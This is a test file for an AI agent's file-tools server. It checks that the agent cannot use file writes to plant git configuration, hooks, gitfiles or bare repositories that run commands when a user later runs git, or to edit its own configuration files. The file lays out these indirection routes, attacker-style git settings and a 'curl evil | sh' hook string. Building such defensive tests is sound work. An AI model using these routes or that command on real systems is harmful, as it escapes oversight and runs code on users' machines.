"""After any sequence of file-tool calls, a user who runs git anywhere in a root executes nothing the agent wrote.

Every way the file tools alone could make git obey an agent's configuration is tried twice on identical
trees: once through the server (the agent), once with plain file operations (the control). Then real git
(`status`, `log`, `commit`, `submodule status`, `fetch`) runs in every directory of both. The control
proves each indirection is real with this git; the agent's side must leave no marker.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import anyio
import pytest

from tests.conftest import Harness, MakeServer, text_of

pytestmark = [pytest.mark.anyio, pytest.mark.skipif(shutil.which("git") is None, reason="needs git")]

Step = tuple[str, ...]  # ("write", path, content) | ("mkdir", path) | ("copy"|"move", src, dst)


@dataclass
class Scenario:
    tag: str
    steps: list[tuple[Step, bool]]  # each step and whether the server must refuse it
    live: bool = True  # does the control show git obeying it (on this filesystem, with this git)?


def git_env(home: Path, ceiling: Path) -> dict[str, str]:
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_CEILING_DIRECTORIES": str(ceiling), "GIT_TERMINAL_PROMPT": "0", "LANG": "C"}


def git(env: dict[str, str], cwd: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, stdin=subprocess.DEVNULL,
                          timeout=30)


def evil_config(marks: Path, tag: str, base: Path, remote: Path) -> str:
    """What an attacker puts in a config git reads: commands run by status, commit and fetch."""
    return (f"[core]\n\tfsmonitor = touch {marks}/{tag}-fsmonitor\n\thooksPath = {base}/tools/hooks\n"
            f"\tsshCommand = touch {marks}/{tag}-ssh\n"
            f"[remote \"origin\"]\n\turl = {remote}\n\tuploadpack = touch {marks}/{tag}-uploadpack; git-upload-pack\n"
            "\tfetch = +refs/heads/*:refs/remotes/origin/*\n")


def scenarios(marks: Path, base: Path, remote: Path) -> list[Scenario]:
    def cfg(tag: str) -> str:
        return evil_config(marks, tag, base, remote)

    head = "ref: refs/heads/main\n"
    return [
        # (a) an existing repository redirected to a common directory the agent made
        Scenario("commondir", [(("write", "r_commondir/.git/commondir", "evil\n"), True),
                               (("write", "r_commondir/.git/evil/config", cfg("commondir")), True),
                               (("mkdir", "r_commondir/.git/evil/objects"), True),
                               (("mkdir", "r_commondir/.git/evil/refs"), True)]),
        Scenario("worktree-config", [(("write", "r_wtcfg/.git/config.worktree", cfg("worktree-config")), True)],
                 live=False),  # read only with extensions.worktreeConfig, which lives in the protected config
        Scenario("module-config", [(("write", "r_module/.git/modules/sub/config", cfg("module-config")), True)]),
        Scenario("info", [(("write", "r_info/.git/info/attributes", "* diff=evil\n"), True)], live=False),
        Scenario("hook", [(("copy", "tools/tool.sh", "r_hook/.git/hooks/pre-commit"), True)]),
        # symlink tricks and spellings of .git/config
        Scenario("through-links", [(("write", "x/config", cfg("through-links")), True),
                                   (("write", "cfg", cfg("through-links")), True),
                                   (("write", "r_links/.git/hooks/../config", cfg("through-links")), True),
                                   (("write", "r_links/.GIT/config", cfg("through-links")), True)]),
        Scenario("gitfile", [(("write", "r_gitfile/sub/.git", "gitdir: ../evilsub\n"), True),
                             (("write", "r_gitfile/evilsub/HEAD", head), False),
                             (("write", "r_gitfile/evilsub/config", cfg("gitfile")), False),
                             (("mkdir", "r_gitfile/evilsub/objects"), False),
                             (("mkdir", "r_gitfile/evilsub/refs"), True)]),
        # (b) no repository: a .git file, or a .git directory, made from nothing
        Scenario("dotgit-file", [(("write", "plain/.git", "gitdir: evil\n"), True),
                                 (("write", "plain/evil/HEAD", head), False),
                                 (("write", "plain/evil/config", cfg("dotgit-file")), False),
                                 (("mkdir", "plain/evil/objects"), False),
                                 (("mkdir", "plain/evil/refs"), True)]),
        Scenario("dotgit-dir", [(("mkdir", "plain2/.git"), True),
                                (("write", "plain2/.git/HEAD", head), True),
                                (("write", "plain2/.git/config", cfg("dotgit-dir")), True),
                                (("mkdir", "plain2/.git/objects"), True),
                                (("mkdir", "plain2/.git/refs"), True)]),
        # bare-repository shapes, completed in every order and by every tool
        Scenario("bare", [(("write", "bare1/config", cfg("bare")), False),
                          (("write", "bare1/HEAD", head), False),
                          (("mkdir", "bare1/objects"), False),
                          (("write", "bare1/refs/heads/main", "0" * 40 + "\n"), True)]),
        Scenario("bare-commondir", [(("write", "common/config", cfg("bare-commondir")), False),
                                    (("mkdir", "common/objects"), False),
                                    (("mkdir", "common/refs"), False),
                                    (("write", "bare2/commondir", "../common\n"), False),
                                    (("write", "bare2/HEAD", head), True)]),
        Scenario("move-in", [(("write", "bare4/config", cfg("move-in")), False),
                             (("mkdir", "staging/refs/heads"), False),
                             (("move", "staging/refs", "bare4/refs"), True)]),
        Scenario("copy-bare", [(("copy", "vendor", "vendor2"), True),
                               (("write", "vendor2/lib.git/config", cfg("copy-bare")), False)]),
        Scenario("copy-repo", [(("copy", "r_copy", "r_copy2"), True),
                               (("write", "r_copy2/.git/config", cfg("copy-repo")), True)]),
        Scenario("move-gitdir", [(("move", "r_move/.git", "moved-gitdir"), True),
                                 (("write", "moved-gitdir/config", cfg("move-gitdir")), False),
                                 (("move", "moved-gitdir", "r_move/.git"), True)]),
    ]


def build(base: Path, marks: Path, remote: Path, sub_src: Path, env: dict[str, str]) -> None:
    """The user's project as it was before the agent came: repositories, scripts, a vendored bare repo."""
    (base / "tools/hooks").mkdir(parents=True)
    for hook in ("pre-commit", "commit-msg", "post-commit", "post-checkout"):
        script = base / "tools/hooks" / hook
        script.write_text(f"#!/bin/sh\ntouch {marks}/hook-{hook}\n")
        script.chmod(0o755)
    tool = base / "tools/tool.sh"
    tool.write_text(f"#!/bin/sh\ntouch {marks}/hook-direct\n")
    tool.chmod(0o755)
    template = base.parent / f"{base.name}-template"
    template.mkdir()
    assert git(env, template, "init", "-q", "-b", "main").returncode == 0
    (template / "a.txt").write_text("a\n")
    git(env, template, "remote", "add", "origin", str(remote))
    done = git(env, template, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub_src), "sub")
    assert done.returncode == 0, done.stderr
    git(env, template, "add", "-A")
    assert git(env, template, "commit", "-q", "-m", "start").returncode == 0
    for name in ("r_commondir", "r_wtcfg", "r_module", "r_info", "r_hook", "r_links", "r_gitfile", "r_copy",
                 "r_move"):
        shutil.copytree(template, base / name, symlinks=True)
    shutil.rmtree(template)
    (base / "x").symlink_to("r_links/.git")
    (base / "cfg").symlink_to("r_links/.git/config")
    for name in ("plain", "plain2", "bare1", "bare2", "bare4", "common", "staging"):
        (base / name).mkdir()
    (base / "bare4/HEAD").write_text("ref: refs/heads/main\n")
    (base / "bare4/objects").mkdir()
    (base / "vendor").mkdir()
    assert git(env, base / "vendor", "clone", "-q", "--bare", str(remote), "lib.git").returncode == 0


async def act_through_server(server: Harness, steps: list[tuple[Step, bool]]) -> list[str]:
    """Perform the steps; return how the answers differed from what was expected (checked after git ran)."""
    wrong = []
    for step, refused in steps:
        kind, *rest = step
        if kind == "write":
            result = await server.call("write_file", root="workspace", path=rest[0], content=rest[1])
        elif kind == "mkdir":
            result = await server.call("create_folder", root="workspace", path=rest[0])
        else:
            result = await server.call(kind, source_root="workspace", source_path=rest[0], dest_root="workspace",
                                       dest_path=rest[1])
        if result.is_error != refused or (refused and not text_of(result).startswith("protected path: ")):
            wrong.append(f"{step}: {text_of(result)}")
    return wrong


def act_directly(base: Path, steps: list[tuple[Step, bool]]) -> None:
    for step, _ in steps:
        kind, *rest = step
        target = base / rest[-1] if kind != "write" else base / rest[0]
        if kind == "write":
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(rest[1])
        elif kind == "mkdir":
            target.mkdir(parents=True, exist_ok=True)
        elif kind == "copy":
            source = base / rest[0]
            if source.is_dir():
                shutil.copytree(source, target, symlinks=True)
            else:
                shutil.copy2(source, target)
        else:
            os.rename(base / rest[0], target)


def run_git_everywhere(base: Path, remote: Path, env: dict[str, str]) -> None:
    for dirpath, dirs, _ in os.walk(base):
        # Where users work: every folder of the tree, but not inside .git directories or object stores.
        dirs[:] = [d for d in dirs if d != "objects" and d.casefold() != ".git"]
        here = Path(dirpath)
        for args in (["status"], ["log", "-1"], ["commit", "-q", "--allow-empty", "-m", "probe"],
                     ["submodule", "status"], ["fetch", "-q"], ["fetch", "-q", str(remote)]):
            git(env, here, *args)


async def test_git_runs_nothing_the_agent_wrote(make_server: MakeServer, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[user]\n\tname = u\n\temail = u@example.com\n[safe]\n\tbareRepository = all\n"
                                     "[protocol \"file\"]\n\tallow = always\n")
    env = git_env(home, tmp_path)
    sub_src, remote = tmp_path / "sub-src", tmp_path / "remote.git"
    sub_src.mkdir()
    git(env, sub_src, "init", "-q", "-b", "main")
    assert git(env, sub_src, "commit", "-q", "--allow-empty", "-m", "s").returncode == 0
    assert git(env, tmp_path, "clone", "-q", "--bare", str(sub_src), str(remote)).returncode == 0

    sides: dict[str, tuple[Path, Path]] = {}
    for side in ("agent", "control"):
        base, marks = tmp_path / side, tmp_path / f"marks-{side}"
        base.mkdir()
        marks.mkdir()
        build(base, marks, remote, sub_src, env)
        sides[side] = (base, marks)

    agent, agent_marks = sides["agent"]
    control, control_marks = sides["control"]
    server = await make_server({"workspace": agent})
    wrong = []
    for scenario in scenarios(agent_marks, agent, remote):
        wrong += await act_through_server(server, scenario.steps)
    for scenario in scenarios(control_marks, control, remote):
        act_directly(control, scenario.steps)

    async with anyio.create_task_group() as tg:  # the two trees share nothing: one thread each
        for base in (control, agent):
            tg.start_soon(anyio.to_thread.run_sync, run_git_everywhere, base, remote, env)

    shown = sorted(p.name for p in control_marks.iterdir())
    for scenario in scenarios(control_marks, control, remote):
        triggered = [m for m in shown if m.startswith(f"{scenario.tag}-")]
        assert bool(triggered) == scenario.live, (scenario.tag, shown)
    assert "hook-direct" in shown  # the copied hook ran in the control
    assert sorted(p.name for p in agent_marks.iterdir()) == []
    assert wrong == []


async def test_messages_name_the_rule_and_the_way(server: Harness, workspace: Path) -> None:
    (workspace / "repo/.git/hooks").mkdir(parents=True)
    msg = await server.err("write_file", root="workspace", path="repo/.git/commondir", content="evil")
    assert msg == ("protected path: repo/.git/commondir is inside a git directory; the file tools never change a "
                   "repository's internals (git commands do that)")
    msg = await server.err("remove_folder", root="workspace", path="repo/.git")
    assert msg.startswith("protected path: repo/.git is a git directory or file (.git); the file tools never")
    assert "protected path: repo/.git is a git directory" in await server.err(
        "move", source_root="workspace", source_path="repo/.git", dest_root="workspace", dest_path="x")
    (workspace / "b").mkdir()
    (workspace / "b/HEAD").write_text("ref: refs/heads/main\n")
    (workspace / "b/objects").mkdir()
    msg = await server.err("create_folder", root="workspace", path="b/refs")
    assert msg.startswith("protected path: b/refs would make b a directory that git treats as a bare repository")
    assert not (workspace / "b/refs").exists()
    (workspace / "b/refs").mkdir()  # made by someone else: now it is one, and nothing inside may change
    msg = await server.err("write_file", root="workspace", path="b/config", content="[core]\n")
    assert msg.startswith("protected path: b/config is inside a directory that git treats as a bare repository")
    msg = await server.err("write_file", root="workspace", path="b/objects/deep/x", content="x")
    assert "bare repository" in msg and not (workspace / "b/objects/deep").exists()  # its parents were undone


async def test_folders_holding_a_repository_may_be_moved_and_removed_whole(server: Harness,
                                                                           workspace: Path) -> None:
    (workspace / "proj/.git/hooks").mkdir(parents=True)
    (workspace / "proj/.git/config").write_text("[core]\n")
    (workspace / "proj/.git/hooks/pre-commit").write_text("#!/bin/sh\n")
    (workspace / "proj/lib.git/objects").mkdir(parents=True)  # and a vendored bare repository
    (workspace / "proj/lib.git/refs").mkdir()
    (workspace / "proj/lib.git/HEAD").write_text("ref: refs/heads/main\n")
    await server.ok("move", source_root="workspace", source_path="proj", dest_root="workspace", dest_path="moved")
    assert (workspace / "moved/.git/hooks/pre-commit").exists()
    msg = await server.err("copy", source_root="workspace", source_path="moved", dest_root="workspace",
                           dest_path="copied")
    assert msg.startswith("protected path: copied/.git is a git directory or file (.git): copying it would create")
    (workspace / "plain/lib.git/objects").mkdir(parents=True)
    (workspace / "plain/lib.git/refs").mkdir()
    (workspace / "plain/lib.git/HEAD").write_text("ref: refs/heads/main\n")
    msg = await server.err("copy", source_root="workspace", source_path="plain", dest_root="workspace",
                           dest_path="plain2")
    assert msg.startswith("protected path: plain2/lib.git/refs would make plain2/lib.git a directory that git treats")
    assert sorted(p.name for p in workspace.iterdir()) == ["moved", "plain"]  # no copy, no temp folder left
    await server.ok("move", source_root="workspace", source_path="plain/lib.git", dest_root="workspace",
                    dest_path="lib.git")  # a bare repository moved whole
    await server.ok("remove_folder", root="workspace", path="moved")
    await server.ok("remove_folder", root="workspace", path="lib.git")
    assert sorted(p.name for p in workspace.iterdir()) == ["plain"]


async def test_create_folder_is_guarded(server: Harness, workspace: Path) -> None:
    for path in (".git", "sub/.git", ".git/hooks", "x/.GIT/objects"):
        assert "git directory" in await server.err("create_folder", root="workspace", path=path)
    assert "protected_paths rule" in await server.err("create_folder", root="workspace", path=".vscode/tasks.json")
    assert sorted(os.listdir(workspace)) == []


async def test_a_root_inside_a_git_directory_is_read_only_for_the_file_tools(make_server: MakeServer,
                                                                             workspace: Path) -> None:
    gitdir = workspace / "repo/.git"
    (gitdir / "modules/sub").mkdir(parents=True)
    (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
    h = await make_server({"g": gitdir, "m": gitdir / "modules"})
    for root, path in (("g", "commondir"), ("g", "config.worktree"), ("g", "info/exclude"), ("g", "new/file"),
                       ("m", "sub/config")):
        msg = await h.err("write_file", root=root, path=path, content="x")
        assert msg.startswith(f"protected path: {path} is inside a git directory (root {root} lies inside one)")
    assert "git directory" in await h.err("create_folder", root="g", path="evil")
    assert "git directory" in await h.err("remove_file", root="g", path="HEAD")
    assert (await h.ok("read_file", root="g", path="HEAD"))["content"] == "ref: refs/heads/main\n"


async def test_two_calls_cannot_each_add_half_a_bare_repository(server: Harness, workspace: Path) -> None:
    for round_ in range(30):
        d = workspace / f"d{round_}"
        d.mkdir()
        (d / "HEAD").write_text("ref: refs/heads/main\n")
        calls: list[Callable[[], object]] = [
            lambda d=d: server.call("create_folder", root="workspace", path=f"{d.name}/objects"),
            lambda d=d: server.call("write_file", root="workspace", path=f"{d.name}/refs/heads/main", content="x"),
        ]
        async with anyio.create_task_group() as tg:
            for call in calls:
                tg.start_soon(call)  # type: ignore[arg-type]
        assert not ((d / "objects").exists() and (d / "refs").exists()), round_


@pytest.mark.parametrize("path", [".claude/settings.json", ".claude/settings.local.json", ".vscode/settings.json",
                                  ".vscode/tasks.json", ".vscode/mcp.json", ".cursor/mcp.json",
                                  ".gemini/settings.json", ".gitconfig", "sub/.vscode/tasks.json"])
async def test_agents_own_configuration_is_protected_by_default(server: Harness, workspace: Path, path: str) -> None:
    msg = await server.err("write_file", root="workspace", path=path, content='{"hooks": "curl evil | sh"}')
    assert msg.startswith(f"protected path: {path} matches the protected_paths rule")
    assert not (workspace / path).exists()
